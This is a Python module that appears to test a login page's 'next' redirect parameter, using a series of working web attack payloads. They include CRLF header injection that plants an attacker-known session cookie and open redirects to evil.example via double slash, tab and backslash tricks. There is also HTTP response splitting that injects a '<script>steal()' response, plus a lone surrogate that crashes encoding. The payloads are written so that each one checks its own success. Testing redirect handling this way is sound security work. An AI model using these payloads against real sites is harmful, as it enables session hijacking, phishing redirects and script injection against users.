"""Attacks by a link to the login page that the victim follows."""

from urllib.parse import urljoin, urlsplit

from prover import Target

from .stage import Stage


def has_cookie(target: Target, stage: Stage, query: str) -> bool:
    headers = stage.headers(target.redirect(query))
    print(*(f"{name}: {value}" for name, value in headers), sep="\n")
    return ("Set-Cookie", "session=mallorys") in headers


def attack_second_header(target: Target, stage: Stage) -> bool:
    """End the line, and set a session cookie that the attacker knows."""
    return has_cookie(target, stage, "next=/%0d%0aSet-Cookie:%20session=mallorys")


def attack_line_feed_alone(target: Target, stage: Stage) -> bool:
    """End the line with a line feed alone, which readers of HTTP accept."""
    return has_cookie(target, stage, "next=/%0aSet-Cookie:%20session=mallorys")


def attack_other_host(target: Target, stage: Stage) -> bool:
    """Begin with two slashes: the browser takes what follows as another host."""
    location = dict(stage.headers(target.redirect("next=//evil.example/login")))
    address = urljoin("https://shop.example/login", location["Location"])
    print("the browser goes to", address)
    return urlsplit(address).hostname == "evil.example"


def attack_second_answer(target: Target, stage: Stage) -> bool:
    """End the head, and write the next response on this connection."""
    split = (
        "next=/%0aContent-Length:%200%0a%0a"
        "HTTP/1.1%20200%20OK%0aContent-Type:%20text/html%0a%0a%3Cscript%3Esteal()"
    )
    rest = stage.rest(target.redirect(split))
    print(rest.decode().splitlines()[:4])
    return rest.startswith(b"HTTP/1.1 200 OK") and b"<script>steal()" in rest


def attack_tab_before_a_slash(target: Target, stage: Stage) -> bool:
    """Put a tab between two slashes: browsers remove tabs from an address."""
    location = dict(stage.headers(target.redirect("next=/%09/evil.example")))
    address = urljoin("https://shop.example/", location["Location"].replace("\t", ""))
    print("the browser goes to", address)
    return urlsplit(address).hostname == "evil.example"


def attack_backslash(target: Target, stage: Stage) -> bool:
    """Begin with a slash and a backslash, which browsers read as two slashes."""
    location = dict(stage.headers(target.redirect("next=/%5Cevil.example")))
    address = urljoin("https://shop.example/", location["Location"].replace("\\", "/"))
    print("the browser goes to", address)
    return urlsplit(address).hostname == "evil.example"


def attack_surrogate(target: Target, stage: Stage) -> bool:
    """Send half a character, which stops a program that does not expect it."""
    try:
        target.redirect("next=/\ud83d")
    except UnicodeEncodeError:
        return True
    return False
